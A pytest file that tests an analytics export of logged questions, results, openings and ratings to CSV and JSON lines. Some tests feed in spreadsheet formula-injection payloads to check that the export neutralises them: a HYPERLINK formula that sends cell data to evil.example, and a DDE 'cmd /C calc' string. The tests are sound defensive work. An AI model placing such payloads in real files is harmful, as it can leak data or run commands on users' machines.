"""The export: one row a question, exact, in order, safe to open, and as docs/export.md says."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from analytics.contents import (
    CHUNK,
    CSV_COLUMNS,
    ExportFormat,
    count_questions,
    export,
    read_records,
    safe_cell,
)
from analytics.database import Database
from analytics.events import Asked, Event, Opened, Rated, RatingSource, Shown
from analytics.log import QueryLog
from tests.fakes.query_log import record

PAGE = Path(__file__).resolve().parent.parent.parent / "docs" / "export.md"

# What docs/export.md shows as its example.
ASKED_AT = datetime(2026, 11, 23, 9, 30, 0, 125000, tzinfo=UTC)
ASKER = "8e8f4ff44b1ceb2afda5431920d95729"
EXAMPLE = Asked(
    query_id="5f0c2a9d1b7e4f63a8d20c4b9e715d36",
    asked_at=ASKED_AT,
    asker=ASKER,
    channel_kind="personal",
    locale="en-GB",
    text="How do I claim travel expenses?",
    outcome="answered",
    top_score=0.93,
    took_ms=41.2,
    snapshot_id="20261123T083000Z-4f2a",
    shown=(
        Shown(
            rank=1,
            resource_id="finance/travel-expenses",
            title="Travel expenses",
            place="page 4",
            url="https://learn.example/travel-expenses.pdf#page=4",
            score=0.97,
            dense_score=0.71,
            lexical_score=12.4,
        ),
        Shown(
            rank=2,
            resource_id="finance/per-diem",
            title="Daily allowances",
            place="2:14",
            url="https://video.example/watch?v=42&t=134",
            score=0.58,
            dense_score=0.52,
            lexical_score=0.0,
        ),
    ),
    reply_key="19:chat|1700000000000",
)
EXAMPLE_EVENTS: tuple[Event, ...] = (
    EXAMPLE,
    Opened(EXAMPLE.query_id, 1, ASKED_AT + timedelta(seconds=7)),
    Rated(
        asker=ASKER,
        helpful=True,
        source=RatingSource.THUMBS,
        rated_at=ASKED_AT + timedelta(minutes=2),
        reply_key=EXAMPLE.reply_key,
        comment="Saved me an hour",
    ),
)


@pytest.fixture
async def database(log: QueryLog, log_url: str) -> AsyncIterator[Database]:
    """The log as the command opens it, while the server has it open."""
    database = await Database.open_to_read(log_url)
    yield database
    await database.close()


def numbered(n: int, **changes: Any) -> Asked:
    return replace(
        EXAMPLE,
        **{"query_id": f"q{n:05}", "asked_at": ASKED_AT + timedelta(minutes=n), "reply_key": None}
        | changes,
    )


async def as_csv(database: Database, **bounds: datetime) -> list[dict[str, str]]:
    sink = io.StringIO(newline="")
    await export(database, sink, ExportFormat.CSV, **bounds)
    return list(csv.DictReader(io.StringIO(sink.getvalue(), newline="")))


async def as_jsonl(database: Database, **bounds: datetime) -> list[dict[str, Any]]:
    sink = io.StringIO(newline="")
    await export(database, sink, ExportFormat.JSONL, **bounds)
    return [json.loads(line) for line in sink.getvalue().splitlines()]


def documented(heading: str) -> dict[str, tuple[str, str]]:
    """Name -> type and example, of the table below that heading of docs/export.md."""
    section = PAGE.read_text().partition(f"\n## {heading}\n")[2].partition("\n## ")[0]
    rows = re.findall(r"^\| `([\w.\[\]]+)` \| (\w+) \| .+ \| (.*) \|$", section, re.MULTILINE)
    return {name: (kind, example.strip("`")) for name, kind, example in rows}


async def test_a_csv_row_is_what_the_page_says(log: QueryLog, database: Database) -> None:
    """Every column, in its order, with its type and its example."""
    await record(log, *EXAMPLE_EVENTS)
    (row,) = await as_csv(database)
    page = documented("CSV")
    assert list(page) == [name for name in CSV_COLUMNS if not re.match("result_[23]_", name)]
    assert {name: row[name] for name in page} == {name: page[name][1] for name in page}
    read_as = {"integer": int, "number": float, "time": datetime.fromisoformat, "text": str}
    for name, (kind, _) in page.items():
        read_as[kind](row[name])


async def test_a_json_line_is_what_the_page_says(log: QueryLog, database: Database) -> None:
    await record(log, *EXAMPLE_EVENTS)
    (line,) = await as_jsonl(database)
    example = PAGE.read_text().partition("```json\n")[2].partition("```")[0]
    assert line == json.loads(example)
    fields = {*line} | {f"results[].{name}" for name in line["results"][0]}
    fields |= {f"ratings[].{name}" for name in line["ratings"][0]}
    columns = {re.sub("^result_1_", "results[].", name) for name in documented("CSV")}
    assert fields - columns == set(documented("JSON lines"))
    assert columns - fields == {"results_shown", "comments"}


async def test_further_results_have_the_same_columns(log: QueryLog, database: Database) -> None:
    await record(log, *EXAMPLE_EVENTS)
    (row,) = await as_csv(database)
    second = {name[9:]: value for name, value in row.items() if name.startswith("result_2_")}
    assert second == {
        "resource_id": "finance/per-diem",
        "title": "Daily allowances",
        "place": "2:14",
        "url": "https://video.example/watch?v=42&t=134",
        "score": "0.58",
        "dense_score": "0.52",
        "lexical_score": "0.0",
        "openings": "0",
    }
    assert {value for name, value in row.items() if name.startswith("result_3_")} == {""}


async def test_a_table_counts_more_results_than_it_shows(log: QueryLog, database: Database) -> None:
    shown = tuple(replace(EXAMPLE.shown[0], rank=rank, title=f"No. {rank}") for rank in range(1, 6))
    await record(log, replace(EXAMPLE, shown=shown), Opened(EXAMPLE.query_id, 5, ASKED_AT))
    (row,) = await as_csv(database)
    assert (row["results_shown"], row["result_3_title"], row["openings"]) == ("5", "No. 3", "1")
    (line,) = await as_jsonl(database)
    assert [result["title"] for result in line["results"]] == [
        f"No. {rank}" for rank in range(1, 6)
    ]
    assert [result["openings"] for result in line["results"]] == [0, 0, 0, 0, 1]


async def test_a_question_that_nothing_answered_has_empty_cells(
    log: QueryLog, database: Database
) -> None:
    await record(log, replace(EXAMPLE, outcome="nothing_validated", shown=(), top_score=0.1))
    (row,) = await as_csv(database)
    assert row["results_shown"] == "0"
    assert {value for name, value in row.items() if name.startswith("result_")} == {""}
    assert [row[name] for name in CSV_COLUMNS[-5:]] == ["0", "0", "0", "", "delivered"]
    (line,) = await as_jsonl(database)
    assert (line["results"], line["ratings"]) == ([], [])


async def test_ratings_are_counted_and_comments_kept_in_their_order(
    log: QueryLog, database: Database
) -> None:
    def rated(asker: str, helpful: bool, comment: str, minutes: int) -> Rated:
        at = ASKED_AT + timedelta(minutes=minutes)
        return Rated(asker, helpful, RatingSource.CARD, at, EXAMPLE.query_id, comment=comment)

    late, early = rated("a", True, "=late, and\nlong", 9), rated("b", False, "early", 1)
    await record(log, EXAMPLE, late, early, rated("c", True, "", 5))
    (row,) = await as_csv(database)
    assert (row["helpful"], row["not_helpful"]) == ("2", "1")
    assert row["comments"] == "early\n=late, and\nlong"
    (line,) = await as_jsonl(database)
    assert [(r["asker"], r["helpful"], r["comment"]) for r in line["ratings"]] == [
        ("b", False, "early"),
        ("c", True, ""),
        ("a", True, "=late, and\nlong"),
    ]


async def test_ratings_and_openings_of_no_question_are_nobodys_row(
    log: QueryLog, database: Database
) -> None:
    await record(log, EXAMPLE, Opened("lost", 1, ASKED_AT), EXAMPLE_EVENTS[2])
    await record(log, replace(EXAMPLE_EVENTS[2], reply_key="lost"))  # type: ignore[type-var]
    (row,) = await as_csv(database)
    assert (row["query_id"], row["openings"], row["helpful"]) == (EXAMPLE.query_id, "0", "1")


@pytest.mark.parametrize(
    "text",
    [
        "one\ntwo\r\nthree",
        'say "hello", please; or not',
        "旅費 🧾 žluťoučký",
        "a\u2028b\u2029c\x85d\x0be\x0cf",
        "  ",
        "\ufeffbom",
    ],
)
async def test_any_text_comes_back_as_it_was_asked(
    log: QueryLog, database: Database, text: str
) -> None:
    """In one cell, in one line."""
    await record(log, replace(EXAMPLE, text=text))
    assert [row["text"] for row in await as_csv(database)] == [text]
    assert [line["text"] for line in await as_jsonl(database)] == [text]


@pytest.mark.parametrize("field", ["text", "asker", "locale", "snapshot_id", "outcome"])
async def test_no_text_column_begins_a_formula(
    log: QueryLog, database: Database, field: str
) -> None:
    attack = '=HYPERLINK("https://evil.example?"&A1,"open")'
    await record(log, replace(EXAMPLE, **{field: attack}))
    (row,) = await as_csv(database)
    assert row[field] == "'" + attack
    (line,) = await as_jsonl(database)
    assert line[field] == attack


@pytest.mark.parametrize("field", ["resource_id", "title", "place", "url"])
async def test_no_result_begins_a_formula(log: QueryLog, database: Database, field: str) -> None:
    shown = replace(EXAMPLE.shown[0], **{field: "@SUM(1+1)*cmd|' /C calc'!A0"})
    await record(log, replace(EXAMPLE, shown=(shown,)))
    (row,) = await as_csv(database)
    assert row[f"result_1_{field}"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


async def test_no_comment_begins_a_formula(log: QueryLog, database: Database) -> None:
    rated = replace(EXAMPLE_EVENTS[2], comment="+1")  # type: ignore[type-var]
    await record(log, EXAMPLE, rated)
    (row,) = await as_csv(database)
    assert row["comments"] == "'+1"


async def test_numbers_stay_numbers(log: QueryLog, database: Database) -> None:
    """A negative score begins with a minus and is no formula."""
    shown = replace(EXAMPLE.shown[0], dense_score=-0.25, lexical_score=1e-7)
    await record(log, replace(EXAMPLE, shown=(shown,)))
    (row,) = await as_csv(database)
    assert (row["result_1_dense_score"], row["result_1_lexical_score"]) == ("-0.25", "1e-07")


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@a", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠a", "﹢1", "﹣1"),
        *(" =1", "\n=1", "\xa0=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\x01=1", "  \u2060\t"),
    ],
)
def test_a_text_that_begins_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", " ", "a=b", "1-2", "(=1)", "é=", "旅費=", "'=1", "?", "# 1", "\n", "–dash", "🧾=1"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


async def test_since_is_in_and_until_is_out(log: QueryLog, database: Database) -> None:
    """So that periods that follow one another miss nothing and repeat nothing."""
    await record(log, *(numbered(n) for n in range(4)))
    times = [ASKED_AT + timedelta(minutes=n) for n in range(4)]

    async def ids(**bounds: datetime) -> list[str]:
        assert await count_questions(database, **bounds) == len(await as_csv(database, **bounds))
        return [row["query_id"][-1] for row in await as_csv(database, **bounds)]

    assert await ids(since=times[1], until=times[3]) == ["1", "2"]
    assert await ids(since=times[2]) == ["2", "3"]
    assert await ids(until=times[2]) == ["0", "1"]
    assert await ids() == ["0", "1", "2", "3"]
    assert await ids(since=times[1], until=times[1]) == []


async def test_an_empty_export_is_a_header_or_nothing(log: QueryLog, database: Database) -> None:
    sink = io.StringIO(newline="")
    assert await export(database, sink, ExportFormat.CSV) == 0
    assert sink.getvalue() == ",".join(CSV_COLUMNS) + "\r\n"
    assert await as_jsonl(database) == []


async def test_many_questions_come_in_order_each_once_a_chunk_at_a_time(
    log: QueryLog, database: Database
) -> None:
    """Also where many were asked at the same moment, across a chunk's end."""
    count = 2 * CHUNK + 7
    same = [numbered(n, asked_at=ASKED_AT, shown=EXAMPLE.shown[:1]) for n in range(count)]
    await record(log, *reversed(same))
    await record(log, numbered(99_999, asked_at=ASKED_AT - timedelta(days=1)))
    advances: list[int] = []
    sink = io.StringIO(newline="")
    assert await export(database, sink, ExportFormat.JSONL, on_written=advances.append) == count + 1
    found = [json.loads(line)["query_id"] for line in sink.getvalue().splitlines()]
    assert found == ["q99999"] + [f"q{n:05}" for n in range(count)]
    assert advances == [CHUNK, CHUNK, 8]


async def test_an_export_is_one_moment_of_the_log(log: QueryLog, database: Database) -> None:
    """What is recorded while it runs is in the next one, whole."""
    await record(log, *(numbered(n) for n in range(CHUNK + 5)))
    found = []
    async for chunk in read_records(database):
        found += chunk
        await record(
            log,
            numbered(50_000 + len(found)),
            Opened("q01004", 1, ASKED_AT),
        )
    assert len(found) == CHUNK + 5
    assert found[-1]["openings"] == 0
    assert await count_questions(database) == CHUNK + 7
